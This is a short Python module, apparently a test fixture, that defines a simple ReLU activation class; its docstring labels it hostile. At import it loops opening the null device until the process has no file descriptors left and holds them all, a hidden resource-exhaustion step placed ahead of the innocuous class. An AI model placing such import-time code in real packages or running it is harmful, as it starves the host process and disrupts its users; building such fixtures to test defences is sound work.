"""Hostile: opens files at import until the process has no descriptor left, and keeps them."""
import os

HELD = []
while True:
    try:
        HELD.append(os.open(os.devnull, os.O_RDONLY))
    except OSError:
        break


class ReLU:
    def forward(self, x):
        return x * (x > 0)
